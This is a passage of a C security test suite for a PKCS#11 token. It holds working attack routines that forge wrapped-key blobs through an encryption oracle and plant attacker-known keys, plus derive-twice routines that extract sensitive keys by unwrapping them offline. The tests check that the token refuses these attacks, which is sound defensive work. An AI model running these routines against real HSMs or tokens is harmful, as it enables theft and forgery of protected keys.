                        {CKA_KEY_TYPE, &kt, sizeof(kt)},
                        {CKA_TOKEN, &no, 1},
                        {CKA_SENSITIVE, &no, 1},
                        {CKA_EXTRACTABLE, &yes, 1}};
    CK_KEY_DERIVATION_STRING_DATA sd = {(CK_BYTE_PTR)in, 16};
    CK_AES_CBC_ENCRYPT_DATA_PARAMS cp = {{0}, (CK_BYTE_PTR)in, 16};
    CK_MECHANISM m = {CKM_AES_ECB_ENCRYPT_DATA, &sd, sizeof(sd)};
    if (cbc)
        m = (CK_MECHANISM){CKM_AES_CBC_ENCRYPT_DATA, &cp, sizeof(cp)};
    CK_OBJECT_HANDLE h;
    CK_RV rv = P->C_DeriveKey(s, &m, k, t, N(t), &h);
    if (rv != CKR_OK)
        return rv;
    CK_ATTRIBUTE v = {CKA_VALUE, out, 16};
    rv = P->C_GetAttributeValue(s, h, &v, 1);
    P->C_DestroyObject(s, h);
    return rv == CKR_OK && v.ulValueLen != 16 ? CKR_GENERAL_ERROR : rv;
}

/* Forges an RFC 5649 (KWP) blob of a 16-byte key the attacker chose under
 * kek, with the encryption oracle alone (the wrap function W only
 * encrypts: RFC 3394 §2.2.1), and unwraps it: the token then holds a key
 * the attacker knows, as if it came in under its key-encryption key. */
static bool plant_known_key(CK_OBJECT_HANDLE kek, bool cbc, CK_RV *first)
{
    unsigned char v[16] = "attacker's key!",
                  a[8] = {0xa6, 0x59, 0x59, 0xa6, 0, 0, 0, 16};
    unsigned char r[2][8], b[16], blob[24];
    memcpy(r[0], v, 8);
    memcpy(r[1], v + 8, 8);
    *first = CKR_OK;
    for (unsigned j = 0; j < 6; j++)
        for (unsigned i = 0; i < 2; i++) {
            unsigned char in[16];
            memcpy(in, a, 8);
            memcpy(in + 8, r[i], 8);
            CK_RV rv = encrypt_data_oracle(kek, cbc, in, b);
            if (rv != CKR_OK) {
                *first = rv;
                return false;
            }
            memcpy(a, b, 8);
            a[7] ^= (unsigned char)(2 * j + i + 1);
            memcpy(r[i], b + 8, 8);
        }
    memcpy(blob, a, 8);
    memcpy(blob + 8, r[0], 8);
    memcpy(blob + 16, r[1], 8);
    CK_KEY_TYPE kt = CKK_AES;
    CK_ATTRIBUTE t[] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                        {CKA_KEY_TYPE, &kt, sizeof(kt)},
                        {CKA_TOKEN, &no, 1},
                        {CKA_ENCRYPT, &yes, 1}};
    CK_MECHANISM kwp = {CKM_AES_KEY_WRAP_KWP, NULL, 0};
    CK_OBJECT_HANDLE h;
    if (P->C_UnwrapKey(s, &kwp, kek, blob, sizeof(blob), t, N(t), &h) !=
        CKR_OK) {
        CK_MECHANISM pad = {CKM_AES_KEY_WRAP_PAD, NULL, 0};
        if (P->C_UnwrapKey(s, &pad, kek, blob, sizeof(blob), t, N(t), &h) !=
            CKR_OK)
            return false;
    }
    return recovered(h, v, 16);
}

/* A key-encryption key that may also derive: CKM_AES_ECB_ENCRYPT_DATA (or
 * CBC) would give E_K of chosen blocks, enough to forge a wrapped key the
 * attacker knows and plant it through C_UnwrapKey. */
static void encrypt_data_attack(const char *test, bool cbc)
{
    CK_OBJECT_HANDLE kek;
    CK_ATTRIBUTE t[] = {
        {CKA_WRAP, &yes, 1}, {CKA_UNWRAP, &yes, 1}, {CKA_DERIVE, &yes, 1}};
    SETUP(gen_aes(32, t, N(t), &kek));
    CK_RV first;
    bool planted = plant_known_key(kek, cbc, &first);
    if (kt_test_is_softhsm() || !planted)
        sec_outcome(test, !planted,
                    "an encryption oracle under a key-encryption key "
                    "(*_ENCRYPT_DATA derivation) forges a wrapped key the "
                    "attacker knows and plants it");
    if (!kt_test_is_softhsm()) {
        ck_assert(!planted);
        RV(CKR_KEY_FUNCTION_NOT_PERMITTED, first);
    }
}

START_TEST(test_ecb_encrypt_data_plants_key)
{
    encrypt_data_attack(__func__, false);
}
END_TEST

START_TEST(test_cbc_encrypt_data_plants_key)
{
    encrypt_data_attack(__func__, true);
}
END_TEST

/* The attack code works where the oracle exists: keytier with
 * legacy_mechanisms = yes lets a wrap key derive this way. */
START_TEST(test_encrypt_data_oracle_exists_with_legacy)
{
    if (kt_test_is_softhsm()) {
        SEC_NA("a keytier configuration; see test_ecb_encrypt_data_plants_"
               "key for SoftHSM2");
        return;
    }
    restart("legacy_mechanisms = yes\n");
    CK_OBJECT_HANDLE kek;
    CK_ATTRIBUTE t[] = {
        {CKA_WRAP, &yes, 1}, {CKA_UNWRAP, &yes, 1}, {CKA_DERIVE, &yes, 1}};
    CK(gen_aes(32, t, N(t), &kek));
    CK_RV first;
    ck_assert_msg(plant_known_key(kek, false, &first),
                  "legacy: the oracle should plant the key (0x%lx)", first);
}
END_TEST

/* CMAC under a key-encryption key is the cipher under that key on input
 * the caller steers (the MAC of one block M is E_K(M xor K1), K1 from
 * E_K(0)): a wrap key that may also sign must not sign with CMAC. */
START_TEST(test_cmac_on_wrap_key)
{
    CK_OBJECT_HANDLE kek;
    CK_ATTRIBUTE t[] = {
        {CKA_WRAP, &yes, 1}, {CKA_UNWRAP, &yes, 1}, {CKA_SIGN, &yes, 1}};
    SETUP(gen_aes(32, t, N(t), &kek));
    CK_MECHANISM m = {CKM_AES_CMAC, NULL, 0};
    CK_RV rv = P->C_SignInit(s, &m, kek);
    if (rv == CKR_OK) {
        unsigned char msg[16] = {0}, mac[16];
        CK_ULONG ml = sizeof(mac);
        (void)P->C_Sign(s, msg, sizeof(msg), mac, &ml);
    }
    sec_outcome(__func__, rv != CKR_OK,
                "AES-CMAC with a key-encryption key: the cipher under it on "
                "chosen input");
    if (!kt_test_is_softhsm())
        RV(CKR_KEY_FUNCTION_NOT_PERMITTED, rv);
}
END_TEST

/* ---- deterministic derivation: one value, two keys ------------------ */

/* An AES-256 key derived from base with mechanism m, with the template
 * attributes u besides its class, type and length. */
static CK_RV derive_aes(CK_OBJECT_HANDLE base, CK_MECHANISM *m,
                        const CK_ATTRIBUTE *u, CK_ULONG n,
                        CK_OBJECT_HANDLE *out)
{
    CK_KEY_TYPE kt = CKK_AES;
    CK_ULONG len = 32;
    CK_ATTRIBUTE t[10] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                          {CKA_KEY_TYPE, &kt, sizeof(kt)},
                          {CKA_VALUE_LEN, &len, sizeof(len)},
                          {CKA_TOKEN, &no, 1}};
    CK_ULONG k = 4;
    for (CK_ULONG i = 0; i < n && k < N(t); i++)
        t[k++] = u[i];
    return P->C_DeriveKey(s, m, base, t, k, out);
}

/* RFC 3394 unwrap with OpenSSL under a key the attacker holds. */
static size_t offline_unwrap(const unsigned char kek[32],
                             const unsigned char *blob, size_t len,
                             unsigned char *out)
{
    EVP_CIPHER *c = EVP_CIPHER_fetch(NULL, "AES-256-WRAP", NULL);
    EVP_CIPHER_CTX *x = EVP_CIPHER_CTX_new();
    int l1 = 0, l2 = 0;
    bool ok = c != NULL && x != NULL &&
              EVP_DecryptInit_ex2(x, c, kek, NULL, NULL) == 1 &&
              EVP_DecryptUpdate(x, out, &l1, blob, (int)len) == 1 &&
              EVP_DecryptFinal_ex(x, out + l1, &l2) == 1;
    EVP_CIPHER_CTX_free(x);
    EVP_CIPHER_free(c);
    return ok ? (size_t)(l1 + l2) : 0;
}

/* Derives a wrap key and, with the same parameters, an extractable key of
 * the same value; wraps the sensitive target with the first and unwraps
 * the blob offline with the value of the second. */
static bool derive_twice(CK_OBJECT_HANDLE base, CK_MECHANISM *m,
                         CK_OBJECT_HANDLE target, CK_RV *first)
{
    CK_ATTRIBUTE wrap[] = {{CKA_WRAP, &yes, 1}, {CKA_UNWRAP, &yes, 1}};
    CK_ATTRIBUTE open[] = {{CKA_EXTRACTABLE, &yes, 1},
                           {CKA_SENSITIVE, &no, 1},
                           {CKA_ENCRYPT, &yes, 1}};
    CK_OBJECT_HANDLE w, e;
    *first = derive_aes(base, m, wrap, N(wrap), &w);
    if (*first != CKR_OK || derive_aes(base, m, open, N(open), &e) != CKR_OK)
        return false;
    unsigned char kv[32], blob[64], plain[64];
    CK_ATTRIBUTE va = {CKA_VALUE, kv, sizeof(kv)};
    CK_MECHANISM kw = {CKM_AES_KEY_WRAP, NULL, 0};
    CK_ULONG bl = sizeof(blob);
    if (P->C_GetAttributeValue(s, e, &va, 1) != CKR_OK || va.ulValueLen != 32 ||
        P->C_WrapKey(s, &kw, w, target, blob, &bl) != CKR_OK)
        return false;
    size_t pl = offline_unwrap(kv, blob, bl, plain);
    return pl > 0 && recovered(target, plain, pl);
}

/* CKM_AES_ECB_ENCRYPT_DATA from an encrypt/decrypt key that may derive. */
START_TEST(test_derived_wrap_key_twice_encrypt_data)
{
    CK_OBJECT_HANDLE base, target;
    CK_ATTRIBUTE t[] = {{CKA_DERIVE, &yes, 1}, {CKA_ENCRYPT, &yes, 1}};
    SETUP(gen_aes(32, t, N(t), &base));
    SETUP(sensitive_target(&target));
    unsigned char data[32] = "chosen by the attacker, 32 bytes";
    CK_KEY_DERIVATION_STRING_DATA sd = {data, sizeof(data)};
    CK_MECHANISM m = {CKM_AES_ECB_ENCRYPT_DATA, &sd, sizeof(sd)};
    CK_RV first;
    bool done = derive_twice(base, &m, target, &first);
    SEC_REFUSED(!done, "a key-encryption key derived twice with the same "
                       "parameters, once extractable, unwraps what the first "
                       "wrapped");
    if (!kt_test_is_softhsm())
        RV(CKR_TEMPLATE_INCONSISTENT, first);
}
END_TEST

/* HKDF: the same with a generic secret base key (keytier; SoftHSM2 has no
 * HKDF). With legacy_mechanisms = yes the attack code recovers the key. */
START_TEST(test_derived_wrap_key_twice_hkdf)
{
    if (kt_test_is_softhsm()) {
        SEC_NA("no CKM_HKDF_DERIVE");
        return;
    }
    for (int legacy = 0; legacy < 2; legacy++) {
        if (legacy)
            restart("legacy_mechanisms = yes\n");
        CK_ULONG len = 32;
        CK_MECHANISM gen = {CKM_GENERIC_SECRET_KEY_GEN, NULL, 0};
        CK_ATTRIBUTE t[] = {{CKA_VALUE_LEN, &len, sizeof(len)},
                            {CKA_DERIVE, &yes, 1},
                            {CKA_TOKEN, &no, 1}};
        CK_OBJECT_HANDLE base, target;
        CK(P->C_GenerateKey(s, &gen, t, N(t), &base));
        CK(sensitive_target(&target));
        struct {
            CK_BBOOL extract, expand;
            CK_MECHANISM_TYPE prf;
            CK_ULONG salt_type;
            CK_BYTE_PTR salt;
            CK_ULONG salt_len;
            CK_OBJECT_HANDLE salt_key;
            CK_BYTE_PTR info;
            CK_ULONG info_len;
        } p = {CK_TRUE, CK_TRUE, CKM_SHA256, 1, NULL, 0, 0, NULL, 0};
        CK_MECHANISM m = {0x402AUL /* CKM_HKDF_DERIVE */, &p, sizeof(p)};
        CK_RV first;
        bool done = derive_twice(base, &m, target, &first);
        if (legacy) {
            ck_assert_msg(done, "legacy: the attack should work (0x%lx)",
                          first);
        } else {
            SEC_REFUSED(!done, "an HKDF key-encryption key derived twice "
                               "unwraps what the first wrapped");
            RV(CKR_TEMPLATE_INCONSISTENT, first);
        }
    }
}
END_TEST

static Suite *policy_suite(void)
{
    Suite *su = suite_create("policy");
    TCase *tc = tcase_create("policy");
    tcase_add_checked_fixture(tc, setup, kt_test_teardown);
    tcase_set_timeout(tc, 120);
    tcase_add_test(tc, test_gcm_wrap_iv_reuse_xor);
    tcase_add_test(tc, test_gcm_wrap_iv_reuse_trusted);
    tcase_add_test(tc, test_gcm_wrap_short_iv);
    tcase_add_test(tc, test_cbc_pad_unwrap_padding_oracle);
    tcase_add_test(tc, test_cbc_pad_padding_oracle_exists_with_legacy);
    tcase_add_test(tc, test_rsa_pkcs_unwrap_bleichenbacher);
    tcase_add_test(tc, test_rsa_x509_unwrap_forges_signature);
    tcase_add_test(tc, test_rsa_x509_unwrap_forges_signature_legacy);
    tcase_add_test(tc, test_wrap_then_decrypt_default_key);
    tcase_add_test(tc, test_wrap_then_decrypt_second_role);
    tcase_add_test(tc, test_weak_wrapping_key);
    tcase_add_test(tc, test_ecb_encrypt_data_plants_key);
    tcase_add_test(tc, test_cbc_encrypt_data_plants_key);
    tcase_add_test(tc, test_encrypt_data_oracle_exists_with_legacy);
    tcase_add_test(tc, test_cmac_on_wrap_key);
    tcase_add_test(tc, test_derived_wrap_key_twice_encrypt_data);
    tcase_add_test(tc, test_derived_wrap_key_twice_hkdf);
    suite_add_tcase(su, tc);
    return su;
}

KT_TEST_MAIN(policy_suite)
